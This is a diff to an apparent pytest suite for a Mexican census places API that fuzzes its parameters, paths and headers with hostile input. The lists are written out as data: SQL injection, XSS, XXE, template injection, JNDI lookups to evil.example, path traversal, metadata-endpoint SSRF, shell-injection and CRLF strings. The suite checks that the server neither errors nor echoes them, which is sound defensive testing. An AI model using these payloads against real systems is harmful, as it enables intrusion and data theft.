@@ -1,4 +1,4 @@
-"""Hostile input in every place that takes any, over raw sockets: no fault of the server, and none of it comes back."""
+"""Hostile input in every place that takes any, over raw sockets: never a 500, and never echoed."""
 
 import re
 from collections import Counter
@@ -6,15 +6,88 @@ from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 from itertools import islice
 from typing import NamedTuple
+from urllib.parse import quote
 
 import pytest
 
 from localidades_api.app import create_app
 from localidades_api.settings import Settings
 from tests.support.catalogue import Place, write_catalogue
-from tests.support.hostile import INPUTS, decoded, encoded
 from tests.support.postgres import new_database
 from tests.support.wire import Live, environment, run, send, serving
+
+SQL = [
+    "'", '"', "''", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "1; DROP TABLE localities--", "1') OR ('1'='1",
+    "' UNION SELECT usename, passwd FROM pg_shadow--", "1 AND pg_sleep(10)", "'||pg_sleep(10)--", "1/**/OR/**/1=1",
+    "'; COPY (SELECT 1) TO PROGRAM 'id'--", "\\'; SELECT 1--", "$$;SELECT 1;$$", "%' AND 1=CAST(version() AS int)--",
+    "x' AND 1=(SELECT count(*) FROM pg_class)--", "`id`", "1e0", "0x27", "_%_%_%_%", "\\", "E'\\047'", ":release_id",
+    "$1", "ARRAY[1]", "{1,2}", "a & b | !c", "a:*", "(((((((((((", "'a' <-> 'b'",
+]  # fmt: skip
+HTML = [
+    "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "</title><script>alert(1)</script>",
+    "<!--<script>alert(1)//-->", "<a href=//evil.example>", "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>", '" onfocus=alert(1) autofocus="', "<base href=//evil.example>",
+    "&lt;script&gt;", "&#x3c;script&#x3e;", "<math><mtext></form><form>", "</script><script>1</script>",
+    "<style>@import'//e'</style>", "]]><x>",
+    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "<%= 7*7 %>",
+]  # fmt: skip
+TEMPLATES = [
+    "{{7*7}}", "${7*7}", "#{7*7}", "{{config}}", "{{''.__class__.__mro__}}", "{% include '/etc/passwd' %}",
+    "${{7*7}}", "@(7*7)", "{{request.application.__globals__}}", "{0.__class__}", "%s%s%s%n", "%(password)s",
+    "%x%x%x%x", "{}", "{0}", "{password}", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}",
+    "${env:DATABASE_URL}", "__import__('os').system('id')", '{"$gt":""}', '{"__proto__":{"x":1}}', "__proto__",
+    "constructor.prototype", "!!python/object/apply:os.system ['id']",
+]  # fmt: skip
+PATHS = [
+    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd",
+    "file:///etc/passwd", "..;/..;/", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "%252e%252e%252f", "..%c0%af..%c0%afetc",
+    "C:\\boot.ini", "\\\\evil.example\\a", "//evil.example", "/\\evil.example", "https://evil.example/",
+    "http://169.254.169.254/latest/", ".git/config", "./.", "~root", "a/../b", "?page=2", "#top", ";jsessionid=1",
+    "&page=2", "page=2&page=3",
+]  # fmt: skip
+SHELL = [
+    "; id", "| id", "&& id", "$(id)", "`id`;", "|| true", "() { :;}; echo x", "\n/bin/id",
+    "& ping -c 1 evil.example &", "-oProxyCommand=id", "--help", "> /tmp/x",
+]  # fmt: skip
+CONTROL = [
+    "\x00", "1\x00", "\x00'", "a\x00b", "\r\n", "\r\nSet-Cookie: a=b", "\r\nX-Injected: 1", "\n\nbody", "\r", "\n",
+    "\t", "\x0b\x0c", "\x1b[2J", "\x1b]0;title\x07", "\x7f", "\x08\x08", "\x85", "\u2028", "\u2029",
+    "%0d%0aX-Injected:1", "%E5%98%8A%E5%98%8DX-Injected:1",
+]  # fmt: skip
+UNICODE = [
+    "١", "１", "१", "²", "½", "Ⅷ", "1\u00a0", "\u200b1", "\ufeff1", "1\u202e2", "\u202etxt.exe", "\u2066a\u2069",
+    "\u200f\u200e", "\U0001f4a9", "\U0010ffff", "\ufffe", "\ufdd0", "e\u0301" * 40, "a" + "\u0300" * 80,
+    "\ufdfa" * 30, "ﬀ", "ı", "İ", "ß" * 80, "ǅ", "＜script＞", "ʺ＞", "ａ", "ﷺ", "𝟙", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
+    "שָׁלוֹם", "田中さん", "\U000e0001\U000e0041",
+]  # fmt: skip
+NUMBERS = [
+    "0", "-0", "-1", "+1", "1.0", "1e3", "1e309", "-1e309", "NaN", "nan", "Infinity", "-inf", "0x10", "0o7", "1_000",
+    "1,000", " 1", "1 ", "01", "2147483647", "2147483648", "-2147483649", "4294967296", "9007199254740993",
+    "9223372036854775807", "9223372036854775808", "18446744073709551616", "9" * 400, "0" * 400,
+    "0." + "0" * 300 + "1", "90.0000001", "-180.5", "1e-400", "", " ", "null", "true", "[]", "undefined",
+]  # fmt: skip
+LONG = ["a" * 3000, "%" * 500, "(" * 1000, "a," * 1000, "'" * 500, "\u00f1" * 500, "a b " * 500]
+
+# Invalid UTF-8: overlong forms, surrogates and truncated characters, as bytes on the wire.
+BYTES = [
+    b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xc1\xbc", b"\xed\xa0\x80", b"\xed\xbf\xbf",
+    b"\xed\xa0\xbd\xed\xb2\xa9", b"\xff", b"\xfe\xff", b"\x80", b"\xc3", b"\xe2\x82", b"\xf0\x9f\x92",
+    b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xc3\x28", b"a\xffb",
+]  # fmt: skip
+TEXTS = [*SQL, *HTML, *TEMPLATES, *PATHS, *SHELL, *CONTROL, *UNICODE, *NUMBERS, *LONG]
+INPUTS = list(dict.fromkeys([*(text.encode() for text in TEXTS), *BYTES]))
+
+
+def encoded(data: bytes) -> bytes:
+    """Return an input as a part of a URL, with every byte escaped except letters and digits."""
+    return quote(data, safe="").encode()
+
+
+def decoded(data: bytes) -> bytes:
+    """Return an input without the characters that would end the request line."""
+    return data.translate(None, b"\r\n ")
+
 
 LIST = "/api/census/localidades/"
 PATHS = ["/{}", "/api/{}", "/api/census/{}/", LIST + "{}/", LIST + "{}", "/api/census/estados/{}/", "/static/{}",
@@ -26,17 +99,17 @@ HEADERS = ["Host", "Accept", "Accept-Language", "Accept-Encoding", "If-None-Matc
 
 _PLAIN_NAME = re.compile(rb"[A-Za-z0-9_.-]{1,40}")
 ROWS = b"lugar,mpio,nombre\r\nLugar 1,,Lugar 1\r\n"
-_SHORT = 3  # bytes, which an answer may have by chance
-_TELLING = re.compile(rb"[^A-Za-z0-9 .,:+-]")  # so may it what has nothing else
-# One relative address, whose query is kept as it was sent, or several with their relations: nothing in them ends the
-# address, the header or the line.
+_SHORT = 3  # bytes; shorter inputs may occur by chance
+_TELLING = re.compile(rb"[^A-Za-z0-9 .,:+-]")  # inputs without such characters may occur by chance
+# One relative URL, whose query is kept as sent, or several with their relations: nothing in them ends the
+# URL, the header or the line.
 _ADDRESSES = re.compile(
     rb'(?!//|[a-z]+:)[A-Za-z0-9._~%/-]*(\?[!-~\x80-\xff]*)?|(</[A-Za-z0-9._~%/?=&+-]*>; rel="[a-z]+"(, )?)+'
 )
 
 
 class Sent(NamedTuple):
-    """A request, and what in it is hostile."""
+    """A request and its hostile part."""
 
     place: str
     data: bytes
@@ -52,7 +125,7 @@ def request_of(place: str, data: bytes, target: bytes, *headers: bytes, method: 
 
 
 def parameters() -> Iterator[tuple[str, str, bytes, bytes]]:
-    """Return the path, the name of a parameter, a target that lacks but its value, and the method."""
+    """Yield paths, parameters, targets without the value, and methods."""
     document = create_app(Settings()).openapi()
     operations = [(path, *one) for path, item in document["paths"].items() for one in item.items()]
     for path, method, operation in operations:
@@ -78,7 +151,7 @@ def in_parameters() -> Iterator[Sent]:
 
 def in_names_of_parameters() -> Iterator[Sent]:
     for data in INPUTS:
-        if not _PLAIN_NAME.fullmatch(data):  # a plain name is shown, so that one finds what is mistyped
+        if not _PLAIN_NAME.fullmatch(data):  # a plain name is shown, so that users find their typo
             for form in (encoded(data), decoded(data)):
                 yield request_of("name", data, LIST.encode() + b"?" + form + b"=1")
                 yield request_of("name, as a page", data, LIST.encode() + b"?format=api&" + form + b"=1")
@@ -102,7 +175,7 @@ def in_headers() -> Iterator[Sent]:
 
 @pytest.fixture(scope="module")
 def live(server: str, migrated: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
-    """Lend a server of places with harmless names, which gives the database time: this machine may be busy."""
+    """Yield a server of places with harmless names and a long database timeout."""
     places = [Place(f"01001{number:04d}", f"Lugar {number}") for number in range(1, 133)]
     path = write_catalogue(tmp_path_factory.mktemp("plain") / "catun_localidad_2020-01.csv", places)
     with new_database(server, migrated) as url:
@@ -111,10 +184,10 @@ def live(server: str, migrated: str, tmp_path_factory: pytest.TempPathFactory) -
             yield live
 
 
-# 53 has no divisor in common with the 232 inputs: each place gets its own share of them, and all places get all.
+# 53 is coprime to the 232 inputs: each place gets a different share, and together they get all.
 @pytest.mark.parametrize("each", [53, pytest.param(1, marks=[pytest.mark.tail, pytest.mark.timeout(600)])])
 @pytest.mark.parametrize("sent", [in_parameters, in_names_of_parameters, in_paths, in_headers])
-def test_hostile_input_makes_no_fault_and_does_not_come_back(
+def test_hostile_input_is_never_a_500_nor_echoed(
     live: Live, sent: Callable[[], Iterator[Sent]], each: int, capsys: pytest.CaptureFixture[str]
 ) -> None:
     statuses: Counter[int] = Counter()
@@ -139,9 +212,9 @@ def status_of(answer: bytes) -> int:
 
 
 def came_back(one: Sent, answer: bytes) -> bool:
-    """Tell whether an answer repeats the input as it is.
+    """Return whether a response echoes the input unescaped.
 
-    Addresses in `Link` and `Location` may, escaped; a page may show what was searched for, as text.
+    `Link` and `Location` may, escaped; a page may show the search as text.
     """
     head, _, body = answer.partition(b"\r\n\r\n")
     lines = head.split(b"\r\n")
